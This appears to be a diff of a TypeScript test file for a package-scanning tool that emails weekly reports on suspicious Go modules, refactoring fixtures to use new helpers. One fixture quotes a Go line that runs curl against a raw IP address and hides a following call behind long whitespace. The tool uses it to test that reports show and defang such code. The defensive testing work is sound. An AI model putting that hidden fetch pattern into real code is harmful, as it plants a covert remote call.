@@ -8,17 +8,21 @@ import type { Store } from '@mirrorwatch/store/connect/connect'
 import { deliveriesOf } from '@mirrorwatch/store/tables/deliveries'
 import { saveFindings } from '@mirrorwatch/store/tables/findings'
 import { openTestStore, type TestStore } from '@mirrorwatch/testing/databases'
+import { aFinding, stored, usesOf } from '@mirrorwatch/testing/findings'
 import { PASSWORD, type SmtpLab, startSmtpLab, USER } from '@mirrorwatch/testing/smtp-lab'
 import { decode } from 'fast-png'
 import PostalMime from 'postal-mime'
-import { codeLines, shownLine } from '../src/blocks/code-lines.ts'
-import { defang, shown, visibleText } from '../src/blocks/safe-text.ts'
+import { findingBlocks } from '../src/blocks/finding.ts'
+import { visibleText } from '../src/blocks/visible-text.ts'
 import { createMailer, type Mailer } from '../src/delivery/mailer.ts'
 import { gatherReport } from '../src/report/data.ts'
 import { addWeeks, formatIsoWeek, isoWeekAt, parseIsoWeek, weekStart } from '../src/report/iso-week.ts'
 import { renderReport } from '../src/report/message.ts'
+import { newFindingsBlocks } from '../src/report/sections/new-findings.ts'
 import { type ReportDeps, sendDueReports, sendReport } from '../src/report/send.ts'
-import { PICTURE_HEIGHT, PICTURE_WIDTH } from '../src/report/trend-picture.ts'
+import { defang, shown } from '../src/writers/defang.ts'
+import { shortFinding, shownLine } from '../src/writers/finding-lines.ts'
+import { PICTURE_HEIGHT, PICTURE_WIDTH } from '../src/writers/trend-picture.ts'
 
 const NOW = new Date('2026-11-24T20:00:00Z')
 const IN_WEEK = '2026-11-18T12:00:00.000000Z'
@@ -46,14 +50,8 @@ before(async () => {
       .values({ path: module, first_cached_at: IN_WEEK, last_cached_at: IN_WEEK })
       .returning('id')
       .executeTakeFirstOrThrow()
-    const lines = [
-      {
-        file: 'db.go',
-        line: 7,
-        quote: `exec.Command("curl", "http://49.12.198.231:20022/naïve")${' '.repeat(99)}x()`,
-      },
-    ]
-    const signals = [{ rule: 'import-process', version: 'v1.3.1', evidence: { count: 1, lines } }]
+    const quote = `exec.Command("curl", "http://49.12.198.231:20022/naïve")${' '.repeat(99)}x()`
+    const signals = [{ rule: 'import-process' as const, version: 'v1.3.1', evidence: usesOf({ quote }) }]
     await store.db.transaction().execute((trx) =>
       saveFindings(
         trx,
@@ -138,10 +136,9 @@ test('a hostile name stays text in every part', async () => {
 })
 
 test('a long file name does not push the code out of sight', () => {
-  const lines = [{ file: `${'a/'.repeat(400)}db.go`, line: 7, quote: 'exec.Command("curl")' }]
-  const at = IN_WEEK
-  const dates = { firstSeenAt: at, lastSeenAt: at, withdrawnAt: null }
-  const [line = ''] = codeLines([{ rule: 'import-process', version: null, evidence: { lines }, ...dates }])
+  const evidence = usesOf({ file: `${'a/'.repeat(400)}db.go`, quote: 'exec.Command("curl")' })
+  const signals = [stored({ rule: 'import-process', version: null, evidence })]
+  const [line = ''] = shortFinding(findingBlocks(aFinding({ signals }))).code
   assert.match(line, /^….*\/db\.go:7: exec\.Command/)
 })
 
@@ -153,17 +150,16 @@ test('a long line keeps its end, where what is to be overlooked stands', () => {
 
 test('a mail with many findings stays below what Gmail shows', async () => {
   const data = await gatherReport(store.db, parseIsoWeek('2026-W47'), 'UTC', NOW)
-  const [finding] = data.fresh
-  assert.ok(finding)
-  const lines = Array.from({ length: 14 }, (_, i) => ({
-    file: 'db.go',
-    line: i,
-    quote: `"${i}${'<'.repeat(150)}"`,
-  }))
-  const signals = finding.signals.map((signal) => ({ ...signal, evidence: { lines } }))
-  const fresh = Array.from({ length: 20 }, () => ({ ...finding, signals }))
+  const uses = Array.from({ length: 14 }, (_, line) => ({ line, quote: `"${line}${'<'.repeat(150)}"` }))
+  const signals = [stored({ rule: 'import-process', version: 'v1.3.1', evidence: usesOf(...uses) })]
+  const findings = Array.from({ length: 20 }, () => aFinding({ signals }))
   const counts = { ...data.counts, critical: 20, high: 3 }
-  const many = { ...data, fresh, counts, freshTotal: 23 }
+  const [, ...others] = data.sections
+  const section: (typeof others)[number] = {
+    title: 'New',
+    write: (facts, layout) => newFindingsBlocks(findings, facts, layout),
+  }
+  const many = { ...data, counts, sections: [section, ...others] }
   const report = await renderReport(many, 'https://watch.example.com')
   assert.ok(Buffer.byteLength(report.html) <= 100_000)
   const [, more, critical] = /… and (\d+) more \((\d+) critical, 3 high\)/.exec(report.html) ?? []
